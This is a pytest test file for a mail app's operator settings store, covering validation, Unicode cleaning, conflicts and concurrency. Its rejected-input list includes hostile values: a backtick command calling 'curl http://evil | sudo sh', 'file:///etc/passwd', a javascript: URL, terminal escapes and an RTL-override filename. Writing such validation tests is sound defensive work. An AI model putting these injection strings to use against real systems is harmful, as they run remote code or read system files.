"""The operator's settings: validation, the table, and values that cannot be stored."""

import asyncio
import time
import unicodedata
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import date
from typing import Any

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from rcmail.config import PostgresConfig
from rcmail.db.pool import Database, Session
from rcmail.errors import InvalidSettings, SettingsConflict
from rcmail.settings.keys import BY_NAME, KEYS, clean
from rcmail.settings.store import SettingsStore
from rcmail.validation import MAX_LENGTH

NAMES = [key.name for key in KEYS]


@pytest.fixture
def store(database: Database) -> SettingsStore:
    return SettingsStore(database)


def test_the_known_keys_are_those_of_the_specification() -> None:
    event = ["event_date", "event_time", "event_further_dates", "event_location", "event_offerings"]
    house = ["not_repaired", "house_facts", "languages", "reply_signature", "drafts_by_themselves"]
    mail = ["group_addresses", "waiting_days", "mail_since", "sync_every_minutes", "mail_keep_months"]
    model = ["llm_endpoint", "llm_model", "llm_server", "llm_may_be_remote"]
    assert [*event, *house, *mail, *model] == NAMES
    assert all(key.label and key.help for key in KEYS)


async def test_what_is_saved_is_read_again_trimmed(store: SettingsStore, database: Database) -> None:
    await store.save({"event_location": "  5 Mill Lane ", "event_date": "2026-03-28"})
    read = await SettingsStore(database).read()
    assert read.values == {"event_location": "5 Mill Lane", "event_date": "2026-03-28"}


async def test_an_emptied_setting_is_removed(store: SettingsStore, database: Database) -> None:
    await store.save({"event_location": "here"})
    settings, written = await store.save({"event_location": "  "})
    assert (settings.values, written) == ({}, ["event_location"])
    assert await database.fetch("SELECT * FROM settings") == []


async def test_saving_the_same_value_keeps_its_date(store: SettingsStore, database: Database) -> None:
    await store.save({"llm_model": "a"})
    before = await database.fetch("SELECT id, updated_at FROM settings")
    await store.save({"llm_model": "a"})
    assert await database.fetch("SELECT id, updated_at FROM settings") == before
    await store.save({"llm_model": "b"})
    after = await database.fetch("SELECT id, updated_at FROM settings")
    assert after[0][0] == before[0][0]
    assert after[0][1] > before[0][1]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("nonsense", "x"),
        ("event_date", "2026-02-30"),
        ("event_date", "28.3.2026"),
        ("llm_endpoint", "javascript:alert(1)"),
        ("llm_endpoint", "file:///etc/passwd"),
        ("llm_endpoint", "http://"),
        ("llm_endpoint", "http:///x"),
        ("llm_endpoint", "http://a b"),
        ("llm_endpoint", "http://user:hunter2@host"),
        ("llm_endpoint", "http://host:99999"),
        ("llm_endpoint", "http://[::1"),
        ("llm_endpoint", "http://host?x=1"),
        ("llm_endpoint", "http://host?"),
        ("llm_endpoint", "http://host#"),
        ("llm_endpoint", "http://1.2.3.4.5:1"),
        ("llm_endpoint", "http://127.1:1"),
        ("llm_endpoint", "http://" + "a" * 3000),
        ("llm_model", "a b"),
        ("llm_model", "-rf"),
        ("llm_model", "x`curl http://evil | sudo sh`"),
        ("llm_model", "a\x1b]0;title\x07"),
        ("llm_model", "x" * 201),
        ("event_location", "a\x00b"),
        ("event_location", "\ud800"),
        ("event_location", "two\nlines"),
        ("event_location", "x" * 3000),
    ],
)
async def test_a_bad_value_is_named_and_nothing_is_saved(
    name: str, text: str, store: SettingsStore, database: Database
) -> None:
    with pytest.raises(InvalidSettings) as caught:
        await store.save({"event_offerings": "good", name: text})
    assert list(caught.value.problems) == [name]
    assert "hunter2" not in caught.value.problems[name]
    assert await database.fetch("SELECT * FROM settings") == []


@pytest.mark.parametrize(
    ("name", "text", "stored"),
    [
        ("event_offerings", "Bikes, toasters,Bikes , ,  bikes", "Bikes, toasters"),
        ("event_offerings", " , ,", None),
        ("llm_endpoint", "http://pi.local:11434/", "http://pi.local:11434"),
        ("llm_endpoint", "https://[fe80::1]:11434/ollama", "https://[fe80::1]:11434/ollama"),
        ("llm_endpoint", "http://müller.local", "http://müller.local"),
        ("llm_model", " hf.co/unsloth/Qwen3-4B-GGUF:Q4_K_M ", "hf.co/unsloth/Qwen3-4B-GGUF:Q4_K_M"),
        ("llm_model", "/srv/models/qwen3.gguf", "/srv/models/qwen3.gguf"),
        ("event_date", " 2020-01-01 ", "2020-01-01"),
    ],
)
def test_a_good_value_is_brought_into_shape(name: str, text: str, stored: str | None) -> None:
    assert clean(name, text) == stored


# Of every kind that a setting takes, long ones too, and whatever else there is.
WORDS = st.text(
    st.characters(exclude_categories=["Cs"]) | st.sampled_from("\u200b\u200e\u202e\u0301\u0958 \t,"), max_size=8
)
TEXTS = st.one_of(
    st.text(max_size=50),
    st.lists(WORDS, max_size=12).map(",".join),
    st.tuples(WORDS, st.integers(300, 2001)).map(lambda pair: f"{pair[0]}," * pair[1]),
    st.dates().map(str),
    st.from_regex(r"https?://[a-z]{1,9}(:[0-9]{0,4})?(/[^\s?#]{0,9}){0,4}", fullmatch=True),
    st.tuples(st.sampled_from(["a,", "\u0958", "e\u0301", "ab, "]), st.integers(900, 2001)).map(
        lambda p: p[0] * p[1]
    ),
)


@pytest.mark.parametrize("name", NAMES)
@given(text=TEXTS)
@hypothesis_settings(max_examples=150)
def test_what_is_stored_is_itself_valid_and_stays_as_it_is(name: str, text: str) -> None:
    try:
        cleaned = clean(name, text)
    except ValueError as error:
        assert str(error)
        assert len(text) < 5 or text not in str(error)
        return
    if cleaned is not None:
        is_long = BY_NAME[name].is_long or name == "event_location"
        assert clean(name, cleaned) == cleaned
        assert 0 < len(cleaned) <= MAX_LENGTH
        assert unicodedata.is_normalized("NFC", cleaned)
        assert not [c for c in cleaned if unicodedata.category(c) in ("Cc", "Cs") and (c != "\n" or not is_long)]


async def test_a_list_that_grows_beyond_the_limit_is_refused_and_not_lost(
    store: SettingsStore, database: Database
) -> None:
    offerings = ",".join(f"offer{number:03}" for number in range(201))
    assert len(offerings) <= MAX_LENGTH < len(offerings.replace(",", ", "))
    with pytest.raises(InvalidSettings) as caught:
        await store.save({"event_offerings": offerings})
    assert caught.value.problems == {
        "event_offerings": "is too long: 2000 characters are the most, with a space after each comma; shorten it"
    }
    settings, _ = await store.save({"event_offerings": offerings[:1500]})
    assert (await SettingsStore(database).read()).values == settings.values != {}


def test_only_what_is_stored_counts_for_the_limit() -> None:
    assert clean("event_location", " " * 3000 + "x" * MAX_LENGTH + "\n") == "x" * MAX_LENGTH
    assert clean("event_offerings", "a,  " * 500) == "a"


def test_a_text_that_is_slow_to_normalise_is_refused_before() -> None:
    began = time.process_time()
    with pytest.raises(ValueError, match="too long"):
        clean("event_location", "a" + "\u0301" * 16_000 + "\u0316" * 16_000)  # two seconds of NFC
    assert time.process_time() - began < 0.5


@pytest.mark.parametrize(
    "text",
    [
        "מרכז קהילתי \u200fרח׳ הרצל 5\u200e (כניסה ב)",  # Hebrew with its marks
        "مركز المجتمع، شارع 5 \u2067(الطابق 2)\u2069",  # Arabic with isolates
        "می\u200cخواهم",  # Persian: the letters of a word kept apart
        "👩\u200d🔧 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f ❤\ufe0f",
        "Café – „Łódź“ 日本 ½ €",
        "\U0001fadc",  # newer than this Python's Unicode
    ],
)
def test_every_language_and_picture_is_kept_as_typed(text: str) -> None:
    assert clean("event_location", text) == text


@pytest.mark.parametrize(
    ("text", "stored"),
    [
        ("Cafe\u0301", "Café"),
        ("Mill Lane\t5", "Mill Lane 5"),
        ("\u202a+49 30 1234\u202c", "+49 30 1234"),  # a telephone number as some address books copy it
        ("safe\u202egpj.exe", "safegpj.exe"),
        ("\u200b", None),
        ("\u200b \u2060\ufeff\u00ad", None),
        ("\u3164\u2800", None),
        ("\u202e", None),
        ("\u0301\ufe0f", None),
    ],
)
def test_what_cannot_be_seen_is_not_stored_alone_and_turns_nothing_around(text: str, stored: str | None) -> None:
    assert clean("event_location", text) == stored


def test_an_item_that_shows_nothing_is_none() -> None:
    assert clean("event_offerings", "Bikes, \u200b, \u3164,Toasters") == "Bikes, Toasters"


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x7f", "\x9b", "\ud800"])
def test_no_setting_holds_a_control_character(name: str, character: str) -> None:
    with pytest.raises(ValueError, match=r"is|holds|must"):
        clean(name, f"a{character}b")


async def test_a_stored_value_that_is_no_longer_valid_is_reported_kept_and_unset(
    store: SettingsStore, database: Database, caplog: pytest.LogCaptureFixture
) -> None:
    await database.fetch("INSERT INTO settings (key, value) VALUES ('event_date', 'soon'), ('of_later', 'x')")
    read = await store.read()
    await store.read()
    assert read.values == {}
    assert list(read.invalid) == ["event_date"]
    assert [r.message for r in caplog.records] == ["config_invalid_stored_value"]
    assert len(await database.fetch("SELECT * FROM settings")) == 2


async def test_what_was_not_changed_is_not_written(store: SettingsStore, database: Database) -> None:
    await store.save({"event_location": "here", "llm_model": "a"})
    seen = {"event_location": "here", "llm_model": "a"}
    await store.save({"llm_model": "theirs"})
    settings, written = await store.save({"event_location": "there", "llm_model": "a"}, seen)
    assert written == ["event_location"]
    assert settings.values == {"event_location": "there", "llm_model": "theirs"}


async def test_what_somebody_else_changed_is_not_overwritten(store: SettingsStore, database: Database) -> None:
    await store.save({"event_location": "theirs"})
    with pytest.raises(SettingsConflict) as caught:
        await store.save({"event_location": "mine", "llm_model": "b"}, {"event_location": "", "llm_model": ""})
    assert caught.value.stored == {"event_location": "theirs"}
    assert (await store.read()).values == {"event_location": "theirs"}
    # whoever wants the same is no adversary
    _, written = await store.save({"event_location": "theirs"}, {"event_location": ""})
    assert written == []


async def test_of_many_at_once_exactly_one_wins(store: SettingsStore, database: Database) -> None:
    outcomes = await asyncio.gather(
        *(store.save({"llm_model": f"m{n}"}, {"llm_model": ""}) for n in range(10)), return_exceptions=True
    )
    assert sum(isinstance(outcome, SettingsConflict) for outcome in outcomes) == 9


async def test_a_stored_value_that_is_no_longer_valid_does_not_hinder_saving_others(
    store: SettingsStore, database: Database
) -> None:
    await database.fetch("INSERT INTO settings (key, value) VALUES ('event_date', 'soon')")
    settings, written = await store.save({"event_date": "soon", "llm_model": "a"}, {"event_date": "soon"})
    assert written == ["llm_model"]
    assert settings.stored == {"event_date": "soon", "llm_model": "a"}


async def test_what_was_just_saved_is_what_is_last_known(store: SettingsStore) -> None:
    for number in range(20):
        reading = asyncio.create_task(store.read())
        await store.save({"llm_model": f"m{number}"})
        assert store.last_known.values == {"llm_model": f"m{number}"}
        await reading
        assert store.last_known.values == {"llm_model": f"m{number}"}


class LateReply(Database):
    """A database whose first transaction is told last that it is committed."""

    def __init__(self, config: PostgresConfig) -> None:
        super().__init__(config)
        self.is_first = True
        self.second_is_done = asyncio.Event()

    @asynccontextmanager
    async def transaction(self, *arguments: Any, **options: Any) -> AsyncIterator[Session]:
        is_first, self.is_first = self.is_first, False
        async with super().transaction(*arguments, **options) as session:
            yield session
        if is_first:
            await self.second_is_done.wait()


async def test_of_two_saves_the_one_that_was_committed_last_is_last_known(database_config: PostgresConfig) -> None:
    store = SettingsStore(database := LateReply(database_config))
    first = asyncio.create_task(store.save({"llm_model": "a", "event_location": "here"}))
    async with asyncio.timeout(10):
        while not await database.fetch("SELECT key FROM settings"):
            await asyncio.sleep(0.01)
        await store.save({"llm_model": "b"})
        database.second_is_done.set()
        told, _ = await first
    assert store.last_known.values == told.values == {"llm_model": "b", "event_location": "here"}
    await database.close()


@pytest.mark.parametrize("end", ["\r\n", "\n", "\r"])
async def test_a_stored_line_end_does_not_hinder_a_save_from_a_form(
    end: str, store: SettingsStore, database: Database
) -> None:
    await database.execute(
        "INSERT INTO settings (key, value) VALUES ('event_location', %s)", (f"5 Mill{end}Lane",)
    )
    # A browser sends each line end of a hidden field as CR LF, and a text field without any.
    seen = {"event_location": "5 Mill\r\nLane", "llm_model": ""}
    _, written = await store.save({"event_location": "5 MillLane", "llm_model": "m"}, seen)
    assert written == ["event_location", "llm_model"]
    assert (await store.read()).values == {"event_location": "5 MillLane", "llm_model": "m"}


def test_the_groups_addresses_are_cleaned_one_by_one() -> None:
    typed = "Repair Café <Repair@Example.org>, repair@example.org,hulp@example.org , "
    assert clean("group_addresses", typed) == "repair@example.org, hulp@example.org"
    with pytest.raises(ValueError, match="no mail address"):
        clean("group_addresses", "repair@example.org, repair")


@pytest.mark.parametrize(("typed", "kept"), [("60", "60"), (" 007 ", "7"), ("3650", "3650")])
def test_days_are_a_whole_number(typed: str, kept: str) -> None:
    assert clean("waiting_days", typed) == kept


async def test_mail_is_synced_since_a_day_and_by_itself_only_where_that_is_set(store: SettingsStore) -> None:
    unset = await store.read()
    assert (unset.mail_since, unset.sync_every_minutes) == (None, 0)
    await store.save({"mail_since": " 2024-03-28 ", "sync_every_minutes": "060"})
    read = await store.read()
    assert (read.mail_since, read.sync_every_minutes) == (date(2024, 3, 28), 60)
    assert read.stored["sync_every_minutes"] == "60"
    with pytest.raises(InvalidSettings) as raised:
        await store.save({"mail_since": "two years", "sync_every_minutes": "10081"})
    assert raised.value.problems == {
        "mail_since": "is not a date; write it like 2026-03-28",
        "sync_every_minutes": "must be a whole number from 0 to 10080",
    }


@pytest.mark.parametrize("typed", ["0", "3651", "-1", "1.5", "zwei", "٣", "9" * 7])
def test_other_days_are_refused_with_their_bounds(typed: str) -> None:
    with pytest.raises(ValueError, match="must be a whole number from 1 to 3650"):
        clean("waiting_days", typed)
